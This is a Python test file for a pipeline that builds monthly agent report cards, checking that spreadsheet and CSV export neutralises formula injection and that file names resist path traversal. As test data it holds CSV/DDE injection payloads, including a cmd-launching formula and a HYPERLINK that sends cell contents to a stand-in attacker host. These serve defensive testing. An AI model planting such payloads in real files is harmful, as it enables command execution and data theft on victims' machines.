"""Hostile and careless agent ids and names: no formula in any spreadsheet cell, one card per agent,
one bad agent does not stop the month; progress while it runs; an empty month warns."""
from __future__ import annotations

import csv
import re

import pytest
from markupsafe import escape

from pipeline.cards import build_cards
from pipeline.cards.build import card_stems, safe_name
from pipeline.cards.sheets import FORMULA_STARTS, sheet_cell
from tests.pipeline.cards.synth import build_store

LONG_ID = "客服" + "x" * 298  # 300 characters: too long for a file name as it is
HOSTILE = {  # id -> (name, conversations, skill, typical first response s)
    '=HYPERLINK("http://evil.example/?"&A1,"点我")': ("=cmd|' /C calc'!A0", 3, 0.8, 60),
    "+1+1": ("@SUM(1+1)*cmd|' /C calc'!A0", 3, 0.8, 60),
    "-2+3": ("\t=1+1", 3, 0.8, 60),
    "@A1": ("\r=1+1", 3, 0.8, 60),
    "A/1": ("＝1+1", 3, 0.8, 60),
    "A 1": ("  =1+1", 3, 0.8, 60),
    "A_1": ("正常名字", 3, 0.8, 60),
    "a_1": ("小写", 3, 0.8, 60),
    LONG_ID: ("长名字", 3, 0.8, 60),
}


def _unsafe(value) -> bool:
    return isinstance(value, str) and (value[:1] in FORMULA_STARTS or value.lstrip(" ")[:1] in FORMULA_STARTS)


def test_sheet_cell_escapes_text_that_could_be_a_formula():
    assert sheet_cell('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
    for text in ("+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "  =1"):
        assert sheet_cell(text) == "'" + text
    assert sheet_cell("A01") == "A01" and sheet_cell("小雅") == "小雅"
    # numbers that are numbers stay numbers (negative ones too); no data stays empty
    assert sheet_cell(-2.5) == -2.5 and sheet_cell(3) == 3 and sheet_cell(True) is True
    assert sheet_cell(None) is None and sheet_cell(float("nan")) is None


def test_card_file_names_are_unique_capped_and_keep_plain_ids():
    stems = card_stems(["A/1", "A 1", "A_1", LONG_ID, "a1", "A1", "A03"])
    assert len({s.casefold() for s in stems.values()}) == 7  # unique even on a case-insensitive drive
    assert stems["A03"] == "A03" and stems["A_1"] == "A_1"
    assert all(len(f"card-{s}-2026-10.html".encode()) < 200 for s in stems.values())
    assert re.fullmatch(r"A_1-[0-9a-f]{10}", stems["A/1"]) and stems["A/1"] != stems["A 1"]
    assert safe_name("A/1") == stems["A/1"]  # the same id gets the same name every month
    assert safe_name("../etc").startswith("___etc-") and "/" not in safe_name("../etc")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{tmp / 'qa.db'}"
    build_store(url, months=("2026-10",), agents=HOSTILE).close()
    lines: list[str] = []
    report = build_cards("2026-10", url, tmp / "out", pdf=False, min_conversations=3, progress=lines.append)
    return report, tmp / "out", lines


def test_no_spreadsheet_cell_is_a_formula(hostile):
    from openpyxl import load_workbook

    report, _, _ = hostile
    wb = load_workbook(report.xlsx_path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not _unsafe(cell.value), (ws.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"点我")' in seen and "'=cmd|' /C calc'!A0" in seen
    with report.csv_path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert cells and not [c for c in cells if _unsafe(c)]
    assert "'+1+1" in cells and "'-2+3" in cells and "'\t=1+1" in cells


def test_one_card_per_agent_with_its_id_inside(hostile):
    report, out, _ = hostile
    assert sorted(report.agents) == sorted(HOSTILE)
    assert len(report.cards_html) == len(HOSTILE) and len(set(report.cards_html.values())) == len(HOSTILE)
    for agent, path in report.cards_html.items():
        assert path.parent == out and path.exists()
        assert str(escape(agent)) in path.read_text(encoding="utf-8")
    overview = report.index_html.read_text(encoding="utf-8")
    linked = set(re.findall(r'href="(card-[^"]+\.html)"', overview))
    assert linked == {p.name for p in report.cards_html.values()}
    assert not report.warnings


def test_progress_line_per_card(hostile):
    _, _, lines = hostile
    cards = [line for line in lines if line.startswith("card ")]
    assert len(cards) == len(HOSTILE) and cards[0].startswith(f"card 1/{len(HOSTILE)} ")
    assert any("9 agents" in line for line in lines)


def test_a_card_that_cannot_be_written_does_not_stop_the_month(tmp_path):
    url = f"sqlite:///{tmp_path / 'qa.db'}"
    build_store(url, months=("2026-10",)).close()
    out = tmp_path / "out"
    (out / "card-A02-2026-10.html").mkdir(parents=True)  # something in the way of A02's card only
    report = build_cards("2026-10", url, out, pdf=False)
    assert set(report.cards_html) == {"A01", "A03", "A04", "A05", "A06"}
    assert len(report.warnings) == 1 and "'A02'" in report.warnings[0] and "not written" in report.warnings[0]
    assert "warning: card for agent 'A02'" in report.summary()
    assert "html=5" in report.summary_line()
    assert "未生成" in report.index_html.read_text(encoding="utf-8")
    with report.csv_path.open(encoding="utf-8-sig") as fh:
        assert "A02" in {r["agent_id"] for r in csv.DictReader(fh)}  # its figures are still in the sheet


def test_empty_month_warns_and_writes_only_the_overview(tmp_path):
    url = f"sqlite:///{tmp_path / 'qa.db'}"
    build_store(url, months=("2026-10",)).close()
    out = tmp_path / "out"
    report = build_cards("2025-01", url, out, pdf=False)
    assert report.agents == [] and report.csv_path is None and report.xlsx_path is None
    assert [p.name for p in out.iterdir()] == ["index.html"]
    assert "没有已评分的会话" in report.index_html.read_text(encoding="utf-8")
    assert len(report.warnings) == 1 and "no scored conversations" in report.warnings[0]
    assert "2025-01" in report.warnings[0] and "--store" in report.warnings[0]


def test_cli_no_pdf_prints_progress_to_stderr(tmp_path):
    from typer.testing import CliRunner

    from zhijian.cli import app

    url = f"sqlite:///{tmp_path / 'qa.db'}"
    build_store(url, months=("2026-10",)).close()
    result = CliRunner().invoke(app, ["cards", "--month", "2026-10", "--out", str(tmp_path / "out"),
                                      "--store", url, "--no-pdf", "--no-flow"])
    assert result.exit_code == 0, result.output
    month_dir = tmp_path / "out" / "2026-10"  # zhijian cards writes to DIR/YYYY-MM/
    assert not list(month_dir.glob("*.pdf")) and len(list(month_dir.glob("card-*.html"))) == 6
    assert "card 6/6 A06: HTML" in result.stderr
    assert "card 6/6" not in result.stdout and "cards: month=2026-10" in result.stdout


def test_coaching_prefers_examples_a_reviewer_confirmed():
    from pipeline.cards.aggregate import coaching
    from pipeline.cards.model import ConvRecord
    from pipeline.cards.stats import Rate

    def rec(cid, corrected=False):
        crit = {"greeting": {"status": "fail", "evidence": [{"seq": 1, "text": "说吧", "span": [0, 2]}]}}
        if corrected:
            crit["greeting"]["corrected"] = True
        return ConvRecord(cid, "A01", None, 50.0, crit, [], {})

    records = [rec("c1"), rec("c2"), rec("c3", corrected=True)]
    weakest = coaching(records, {"greeting": Rate.of(0, 3)}, ["greeting"])
    examples = weakest[0]["examples"]
    assert [e.conversation_id for e in examples] == ["c3", "c1"]
    assert [e.reviewed for e in examples] == [True, False]


def test_card_shows_a_reviewer_confirmed_example_first(tmp_path):
    from pipeline.cards.aggregate import agent_month, criteria_ids, flag_codes
    from pipeline.cards.data import Month, load_records
    from pipeline.store import Store

    url = f"sqlite:///{tmp_path / 'qa.db'}"
    build_store(url, months=("2026-10",)).close()
    m = Month.parse("2026-10")
    with Store(url) as store:
        records, _ = load_records(store, m.start(), m.end())
        a05 = [r for r in records if r.agent_id == "A05"]
        weakest = agent_month("A05", a05, criteria_ids(records), flag_codes(records)).weakest[0]
        shown = {e.conversation_id for e in weakest["examples"]}
        failing = [r.conversation_id for r in a05 if r.criteria[weakest["criterion"]]["status"] == "fail"]
        confirmed = next(c for c in reversed(failing) if c not in shown)  # not an example without the review
        store.add_correction(confirmed, reviewer="组长", criterion=weakest["criterion"], status="fail")
    report = build_cards("2026-10", url, tmp_path / "out", pdf=False)
    card = report.cards_html["A05"].read_text(encoding="utf-8")
    section = card[card.index("辅导材料"):]
    first = section[section.index('class="example"'):]
    assert f'/conversations/{confirmed}">{confirmed}</a>' in first[:300] and "已经人工复核确认" in first[:500]
    assert "未经人工复核" in section
